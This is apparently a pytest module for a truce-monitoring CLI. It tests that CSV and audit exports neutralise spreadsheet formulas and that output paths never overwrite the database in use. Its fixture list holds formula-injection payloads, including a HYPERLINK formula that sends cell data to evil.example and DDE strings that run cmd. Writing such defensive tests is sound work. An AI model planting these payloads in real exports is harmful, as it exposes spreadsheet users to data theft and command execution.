"""Class 12: spreadsheet-bound exports defuse formulas (OWASP: a leading ' on cells that start
with = + - @ tab or CR), with --raw-cells for machine consumers. Class 13: --out never destroys
the database in use or a file of another kind, and a failed write leaves the old file."""
from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date

import pytest
from typer.testing import CliRunner

from trucewatch.cli import app
from trucewatch.errors import TruceWatchError
from trucewatch.exports import write_to
from trucewatch.incidents.samples import make_event
from trucewatch.records import Acled, Document, Location, Span
from trucewatch.store import open_store

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\tcell", "\r=1+1"]
TRUCE = """name: Hama test truce
parties: [SYR]
area: {places: [{name: Idlib, lat: 35.93, lon: 36.63}], buffer_km: 30}
start: 2016-03-01T00:00
end: 2016-03-31T23:59
prohibited: [air_strike]
"""


@pytest.fixture(scope="module")
def here(tmp_path_factory):
    """One folder for the module: the database, truce and outputs (built and checked once)."""
    return tmp_path_factory.mktemp("spreadsheets")


@pytest.fixture(scope="module")
def formula_db(here):
    tmp_path = here
    url = f"sqlite:///{tmp_path / 'trucewatch.db'}"
    documents, extractions = [], []
    from trucewatch.records import Extraction

    for n, formula in enumerate(FORMULAS):
        text = f"{formula} Government jets bombed a market in Idlib on Monday, report {n}."
        document = Document.from_text(text, source=formula, ref=formula, title=formula, url=formula,
                                      published=date(2016, 3, 7))
        event = make_event(document, killed=(1, 1, 1))
        event.location = Location(text=formula, name=formula, lat=35.93, lon=-36.63, country="SYR",
                                  admin1=formula, precision="city")
        event.evidence = [Span(text=formula, start=0, end=len(formula))]
        event.acled = Acled(event_type="Explosions/Remote violence", sub_event_type="Air/drone strike")
        documents.append(document)
        extractions.append(Extraction(document=document, events=[event]))
    with open_store(url) as store:
        store.add(documents, extractions)
    (tmp_path / "truce.yaml").write_text(TRUCE, encoding="utf-8")
    from trucewatch.truce.run import run_check

    run_check(tmp_path / "truce.yaml", url)  # incidents for the incident exports
    return url


def _cells(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("args", [["--format", "csv"], ["--format", "acled"],
                                  ["--what", "incidents", "--format", "csv"],
                                  ["--what", "incidents", "--format", "acled"]])
def test_spreadsheet_exports_defuse_formulas(args, formula_db, here, hostile):
    out = here / "out.csv"
    done = CliRunner().invoke(app, ["export", *args, "--out", str(out), "--db", formula_db])
    assert done.exit_code == 0, done.output
    cells = _cells(out)
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not _is_number(cell)]
    assert not live, live
    assert any(cell.startswith(("'=", "'+", "'-", "'@", "'\t", "'\n")) for cell in cells)
    raw = here / "raw.csv"
    done = CliRunner().invoke(app, ["export", *args, "--raw-cells", "--out", str(raw), "--db", formula_db])
    assert done.exit_code == 0, done.output
    assert any(cell[:1] in ("=", "+", "-", "@", "\t", "\n") and not _is_number(cell) for cell in _cells(raw))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers(formula_db, here, hostile):
    out = here / "out.csv"
    assert CliRunner().invoke(app, ["export", "--format", "csv", "--out", str(out), "--db", formula_db]).exit_code == 0
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["longitude"] for row in rows} == {"-36.63"}


def _table_counts(path):
    with sqlite3.connect(path) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        return connection.execute("SELECT count(*) FROM documents").fetchone()[0]


@pytest.mark.parametrize("args", [
    ["export", "--format", "csv", "--out", "trucewatch.db"],
    ["export", "--format", "parquet", "--out", "trucewatch.db"],
    ["export", "--format", "jsonl", "--out", "./trucewatch.db", "--force"],
    ["report", "truce.yaml", "--from", "2016-03-01", "--to", "2016-03-31", "--out", "trucewatch.db", "--format", "html"],
    ["report", "truce.yaml", "--from", "2016-03-01", "--to", "2016-03-31", "--out", "trucewatch.db-wal", "--format", "md"],
    ["audit", "export", "--format", "csv", "--out", "trucewatch.db"],
    ["audit", "export", "--out", "trucewatch.db", "--force"],
])
def test_out_never_overwrites_the_database_in_use(args, formula_db, here, hostile):
    db = here / "trucewatch.db"
    before = _table_counts(db)
    done = hostile.run_cli(*args, "--db", formula_db, cwd=here)
    err = hostile.assert_named_failure(done, "database in use")
    assert "wrote" not in err and _table_counts(db) == before


def test_extract_out_refuses_a_database(formula_db, here, hostile):
    (here / "r.txt").write_text("date 2016-03-07\nJets struck Idlib on Monday.", encoding="utf-8")
    done = hostile.run_cli("extract", "r.txt", "--out", "trucewatch.db", cwd=here)
    hostile.assert_named_failure(done, "trucewatch.db", "SQLite database")
    assert _table_counts(here / "trucewatch.db") > 0


def test_a_file_of_another_kind_needs_force(formula_db, here, hostile):
    other = here / "figure.png"
    other.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    args = ["report", "truce.yaml", "--from", "2016-03-01", "--to", "2016-03-31", "--format", "html",
            "--out", str(other), "--db", formula_db]
    refused = hostile.run_cli(*args, cwd=here)
    hostile.assert_named_failure(refused, "figure.png", "--force")
    assert other.read_bytes().startswith(b"\x89PNG")
    forced = hostile.run_cli(*args, "--force", cwd=here)
    assert forced.returncode == 0 and other.read_text(encoding="utf-8").lstrip().lower().startswith("<!doctype html")
    old_report = here / "old.html"
    old_report.write_text("<!DOCTYPE html><html><body>old</body></html>", encoding="utf-8")
    again = hostile.run_cli(*args[:-4], "--out", str(old_report), "--db", formula_db, cwd=here)
    assert again.returncode == 0 and "old</body>" not in old_report.read_text(encoding="utf-8")


def test_a_failed_write_leaves_the_old_file(tmp_path):
    target = tmp_path / "events.csv"
    target.write_text("old,contents\n", encoding="utf-8")

    def rows():
        yield {"a": "1"}
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_to(rows(), "csv", target, columns=["a"])
    assert target.read_text(encoding="utf-8") == "old,contents\n"
    assert [p.name for p in tmp_path.iterdir()] == ["events.csv"]  # no temporary file left


def test_a_folder_is_not_an_output(formula_db, here, hostile):
    (here / "folder").mkdir()
    done = hostile.run_cli("export", "--format", "csv", "--out", "folder", "--db", formula_db, cwd=here)
    hostile.assert_named_failure(done, "folder")
    with pytest.raises(TruceWatchError):
        write_to(iter([]), "csv", here / "folder", columns=["a"])
    assert io  # (io imported for symmetry with the csv readers above)


def test_the_audit_export_defuses_formulas_from_reviewers_and_data(formula_db, here):
    """The audit log's CSV (reasons and comments typed by reviewers, record keys from data) goes to
    spreadsheets too: defused by default, as stored with --raw-cells; --out refuses a SQLite file."""
    from trucewatch.audit.log import Actor, append, writing

    with open_store(formula_db) as store, writing(store) as connection:
        for formula in FORMULAS:
            append(connection, Actor(name=formula), "comment", "event", formula, after={"comment": formula},
                   reason=formula)
    out, raw = here / "audit.csv", here / "audit-raw.csv"
    for args, path in ((["--format", "csv"], out), (["--format", "csv", "--raw-cells"], raw)):
        done = CliRunner().invoke(app, ["audit", "export", *args, "--out", str(path), "--db", formula_db])
        assert done.exit_code == 0, done.output
    live = [cell for cell in _cells(out) if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]
    assert not live, live
    assert any(cell.startswith("'=HYPERLINK") for cell in _cells(out))
    assert any(cell.startswith("=HYPERLINK") for cell in _cells(raw))
    other = here / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    done = CliRunner().invoke(app, ["audit", "export", "--format", "csv", "--out", str(other), "--db", formula_db])
    assert isinstance(done.exception, TruceWatchError) and "--force" in str(done.exception)
    assert other.read_bytes().startswith(b"SQLite format 3")
